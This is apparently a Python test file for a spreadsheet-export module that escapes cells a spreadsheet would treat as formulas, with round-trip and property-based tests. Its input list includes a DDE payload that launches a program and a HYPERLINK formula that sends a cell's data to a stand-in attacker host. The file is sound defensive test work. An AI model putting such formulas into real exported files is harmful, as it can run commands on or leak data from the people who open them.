"""Cells that a spreadsheet would run."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rollbook.exchange.formulas import meant, neutral
from wire.naughty import strings

LIVE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "'=1+1",
]
PLAIN = ["", "sick", "'twas late", "a=b", "1-1", "''", "9:40", "mother@home.example", "(=1)"]


@pytest.mark.parametrize("text", LIVE)
def test_what_a_spreadsheet_would_run_begins_with_a_quote(text: str) -> None:
    """
    A text that begins as a formula does leaves as one that a quote stands before.
    """
    assert neutral(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_leaves_as_it_is(text: str) -> None:
    """
    Nothing is put before a text that no spreadsheet would run.
    """
    assert neutral(text) == text


@given(st.text(st.sampled_from("'=+-@\t\r\n a\u00a0\uff1d") | st.characters(), max_size=8))
def test_what_went_out_comes_back(text: str) -> None:
    """
    Whatever a text is, the cell that it becomes stands for it.
    """
    assert meant(neutral(text)) == text


def test_naughty_strings_come_back() -> None:
    """
    Strings that were collected because something broke on them go out and come back.
    """
    assert [meant(neutral(text)) for text in strings()] == strings()


def test_a_formula_that_comes_in_is_text() -> None:
    """
    A cell of somebody else's file that begins as a formula is taken as it stands.
    """
    assert [meant(text) for text in LIVE[:-1]] == LIVE[:-1]
    assert meant("'=1+1") == "=1+1"
